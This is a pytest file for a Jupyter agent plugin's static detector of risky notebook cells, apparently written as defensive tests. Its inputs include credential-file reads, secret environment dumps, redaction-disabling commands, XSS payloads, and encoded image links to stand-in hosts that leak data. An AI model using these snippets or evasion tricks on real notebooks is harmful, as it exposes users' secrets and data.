"""The static rules: what no rehearsal sees is asked about, and ordinary cells are not."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from jupyter_devstral.core.agent.active_html import output_finding
from jupyter_devstral.core.agent.rules import findings
from tests.support.growth import cpu_growth
from tests.support.ordinary_cells import (
    is_rightly_asked,
    ordinary_cells,
    ordinary_texts,
    shows_from_an_address,
)


def test_the_risky_cells_are_asked_about_as_expected(shared_data: Path) -> None:
    lines = (shared_data / "agent" / "risky_cells.jsonl").read_text(encoding="utf-8").splitlines()
    cases = [json.loads(line) for line in lines]
    assert [case["case"] for case in cases if findings(case["cell"])] == [
        case["case"] for case in cases if case["expect"] == "asked"
    ]


def test_no_ordinary_cell_is_asked_about_needlessly(shared_data: Path) -> None:
    cells = list(ordinary_cells(shared_data))
    asked = [cell for cell in cells if findings(cell)]
    assert [cell for cell in asked if not is_rightly_asked(cell)] == []
    # What shows scripts, frames or pictures from addresses, and nothing else; each cell counted once.
    assert len(cells) > 1_000
    assert len(asked) <= len(cells) / 100


@pytest.mark.parametrize(
    "source",
    [
        "import numpy.ctypeslib",
        "x.ctypeslib.load_library('a', '.')",
        "__import__('ctypes').CDLL(None)",
        "import importlib\nimportlib.import_module('ctypes')",
        "exec('import ctypes')",
        "get_ipython().ex('import ctypes')",
        "%%time\nimport ctypes",
        "from sys import settrace",
        "getattr(sys, 'settrace')(f)",
        "sys.monitoring.use_tool_id(0, 'x')",
        "threading.setprofile(f)",
        "%reset -f",
        "if True:\n    %reset -f",
        "get_ipython().run_line_magic('reset', '-f')",
        "get_ipython().magic('reset -f')",
        "ip.reset()",
        "globals().clear()",
        "globals().pop('df')",
        "get_ipython().user_ns.clear()",
        "del get_ipython().user_ns['df']",
        "get_ipython().run_line_magic(name, '')",
        "%config DevstralConfig.host = 'http://x'",
        "get_ipython().run_line_magic('config', 'DevstralConfig.allow_remote = True')",
        "%reload_ext jupyter_devstral",
        "from jupyter_devstral.core.settings.config import DevstralConfig",
        "import os\nos.getenv('OPENAI_API_KEY')",
        "os.environ.get('DB_PASSWORD', '')",
        "from os import environ\nenviron['HF_TOKEN']",
        "print(os.environ)",
        "dict(os.environ)",
        "{k: v for k, v in os.environ.items()}",
        "%env",
        "%env AWS_SECRET_ACCESS_KEY",
        "pl.read_csv('/home/ana/.aws/credentials')",
        "open('.env').read()",
        "Path.home() / '.ssh' / 'id_rsa'",
        "open('/proc/self/environ','rb')",
        "open('/proc/thread-self/environ','rb')",
        "open('/proc/self/task/12/environ','rb')",
        "reset -f",
        "\nenv DB_PASSWORD\n",
        "env",
        "config DevstralConfig.redact = False",
        "unload_ext jupyter_devstral",
        "%time env DB_PASSWORD",
        "from decouple import config",
        "get_ipython().run_cell('env DB_PASSWORD')",
        "HTML(f'<img src=\"{address}\">')",
        "html = '<img src=\"//x.org/?' + s + '\">'\nHTML(html)",
        "HTML('<svg onload=alert(1)>')",
        "HTML('<iframe srcdoc=x></iframe>')",
        "HTML('<form action=\"/x\"></form>')",
        "HTML('<style>@import \"http://x/a.css\"</style>')",
        "HTML('<div style=\"background:url(https://x/%s)\">' % s)",
        "HTML('<div style=\"background:url({})\">'.format(u))",
        "display({'text/html': '<script>x</script>'}, raw=True)",
        "display({'application/javascript': 'x'}, raw=True)",
        "update_display({'text/html': '<img src=//x>'}, raw=True, display_id='y')",
        "handle.update({'text/html': '<script>x</script>'}, raw=True)",
        "Image(url='http://x/y.png')",
        "IFrame('http://x', 10, 10)",
        "Markdown('![](https://x/?d=' + s + ')')",
        "%%html\n<script>x</script>",
        "%%javascript\nx",
        "class A:\n    def _repr_html_(self):\n        return '<script>x</script>'",
    ],
)
def test_what_a_rehearsal_cannot_see_is_asked_about(source: str) -> None:
    assert findings(source) != ()


@pytest.mark.parametrize(
    "source",
    [
        "df.style.background_gradient()",
        "HTML(df.to_html())",
        "HTML('<table><tr><td>1</td></tr></table>')",
        "HTML('<h1 style=\"color: red\">Title</h1>')",
        "HTML('<a href=\"https://pandas.pydata.org\">pandas</a>')",
        "HTML('<img src=\"plot.png\">')",
        "HTML(f'<img src=\"data:image/png;base64,{b}\">')",
        "Image('plot.png')",
        "Markdown('**bold** [link](https://x.org)')",
        "os.environ['OMP_NUM_THREADS'] = '1'",
        "os.environ['HOME']",
        "os.environ.get('MAX_TOKENS')",
        "'HOME' in os.environ",
        "del df['a']",
        "store",
        "config = 1",
        "env.step(action)",
        "env = gym.make(name)",
        "config InlineBackend.figure_format = 'svg'",
        "del x",
        "columns = ['credentials', 'shadow', 'age']",
        "df['secret_santa']",
        "d.clear()",
        "%matplotlib inline",
        "%config InlineBackend.figure_format = 'retina'",
        "%load_ext autoreload",
        "%time x = 1",
        "exec(code)",
        "eval('1 + 1')",
        "import yaml",
        "not python at all (",
    ],
)
def test_ordinary_code_is_not_asked_about(source: str) -> None:
    assert findings(source) == ()


@pytest.mark.parametrize(
    "text", ["![](http://x/?d=1)", "<img src=//x>", "![a][b]\n\n[b]: https://x", "<script>"]
)
def test_text_that_loads_or_runs_is_asked_about(text: str) -> None:
    assert findings(text, "markdown") != ()
    assert findings("[a link](https://x) and ![a picture](plot.png)", "markdown") == ()


_X = "x.example/p.png"
_MERMAID = "```mermaid\nflowchart TD\n%s\n```"


@pytest.mark.parametrize(
    "text",
    [
        # Pictures of Markdown
        f"![a [b]](http://{_X})",
        f"![a ![b](plot.png) c](http://{_X})",
        f"[![badge](https://{_X})](https://x.example)",
        f"![[a](b)](http://{_X})",
        f"![a `]` b](http://{_X})",
        f"![a\\]b](http://{_X})",
        f"![x](<http://{_X}>)",
        f"![x]( http://{_X} 'a')",
        f"![x]\n\n[x]: http://{_X}",
        f"![x][]\n\n[x]: http://{_X}",
        f"![x]\n\n[x]:\n  http://{_X}",
        f"> ![x]\n\n> [x]: http://{_X}",
        f"![a](a.png) ![b][c]\n\n[c]: https://{_X}",
        f"![x](&#104;ttp://{_X})",
        f"![x](http:&#47;&#47;{_X})",
        f"![x](\\/\\/{_X})",
        f"![x](/\\{_X})",
        f"![x](HTTP://{_X})",
        f"![x](https:{_X})",
        f"![x](ht\tp://{_X})",
        f"![x](ht\u200btp://{_X})",
        "![x](file:///etc/passwd)",
        # HTML
        f"<img src=&#104;ttp://{_X}>",
        f"<img src='&#47;&#47;{_X}'>",
        f"<img src='/\\{_X}'>",
        f"<img src='ht\ttp://{_X}'>",
        f"<img\nsrc\n=\n'\nhttp://{_X}'>",
        f"<img alt='>' src=&#104;ttp://{_X}>",
        f"<img srcset='a.png 1x, //{_X} 2x'>",
        f"<svg><image><set attributeName=href to=//{_X}></image></svg>",
        f"<p style='background:u\\72l(//{_X})'>",
        f"<p style='background:image-set(\"//{_X}\" 1x)'>",
        f"$\\style{{background:url(http://{_X})}}{{x}}$",
        "<svg/onload=alert(1)>",
        "<img alt='>' src=x onerror=alert(1)>",
        # Diagrams
        _MERMAID % f'A@{{ img: "http://{_X}" }}',
        _MERMAID % f'A@{{ img: "//{_X}" }}',
        _MERMAID % f'A@{{ img: "\\x68ttp:\\u002f\\u002f{_X}" }}',
        _MERMAID % f"A[\"<img src='http#58;//{_X}'>\"]",
        f"```&#109;ermaid\nA@{{ img: 'http://{_X}' }}\n```",
        f"~~~ Mermaid\nA@{{ img: 'http://{_X}' }}\n~~~",
        f"- a\n  ```mermaid\n  A@{{ img: 'http://{_X}' }}",
    ],
)
def test_text_that_loads_in_another_way_is_asked_about(text: str) -> None:
    assert findings(text, "markdown") != ()
    assert output_finding({"text/markdown": text}) != ""
    assert findings(f"%%markdown\n{text}") != ()


@pytest.mark.parametrize(
    "text",
    [
        '![Fig. 1: a & b](images/fig_1.png "Title") from <https://x.example>',
        "![a](attachment:image.png) and [a link](http://x.example)",
        "![a](data:image/png;base64,AAAA//BB) from https://x.example",
        "[![a](a.png)](https://x.example)",
        "`![]`",
        _MERMAID % "A-->B" + "\nfrom https://x.example",
        "```python\nrequests.get(u, data='https://x.example')\n```",
        "<img src='plot.png'> and [a link](http://x.example)",
        "<a href='https://x.example'><img src=\"a.png\"></a>",
        "&lt;script src=//x.example&gt; is shown as it is written",
    ],
)
def test_text_that_only_shows_is_not_asked_about(text: str) -> None:
    assert findings(text, "markdown") == ()


def test_no_ordinary_text_is_asked_about_needlessly(shared_data: Path) -> None:
    texts = list(ordinary_texts(shared_data))
    asked = [text for text in texts if findings(text, "markdown")]
    needless = [text for text in asked if not shows_from_an_address(text)]
    assert len(texts) > 800
    assert len(needless) <= len(texts) / 100


@pytest.mark.parametrize(
    ("mime", "harmless", "loading"),
    [
        ("text/latex", "$\\alpha$", "$\\style{background:url(http://x)}{x}$"),
        ("text/vnd.mermaid", "flowchart LR\nA-->B", "A@{ img: 'http://x' }"),
        (
            "application/vnd.vegalite.v5+json",
            {"$schema": "https://vega.github.io/schema/vega-lite/v5.json", "data": {"values": [1]}},
            {"data": {"url": "https://x.example/y.csv"}},
        ),
    ],
)
def test_an_output_that_loads_from_an_address_is_asked_about(
    mime: str, harmless: object, loading: object
) -> None:
    assert output_finding({mime: harmless}) == ""
    assert output_finding({mime: loading}) != ""


def test_a_table_in_an_output_is_harmless_and_a_script_is_not() -> None:
    assert output_finding({"text/html": "<table border='1' class='dataframe'><td>1</td></table>"}) == ""
    svg = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><g/></svg>'
    assert output_finding({"image/svg+xml": svg}) == ""
    assert output_finding({"image/svg+xml": svg.replace("<g/>", "<image href='//x'/>")}) != ""
    assert output_finding({"text/html": ["<b>", "<script src=x>"]}) != ""
    assert output_finding({"application/javascript": "x"}) == "it shows JavaScript"


def test_many_displays_of_many_texts_are_read_in_time() -> None:
    def read(size: int) -> None:
        texts = "\n".join(f"x{at} = '<b>{at}</b>'" for at in range(size))
        assert findings(texts + "\n" + "\n".join(f"HTML(x{at})" for at in range(size))) == ()

    assert cpu_growth(read, 2_000) < 1.5
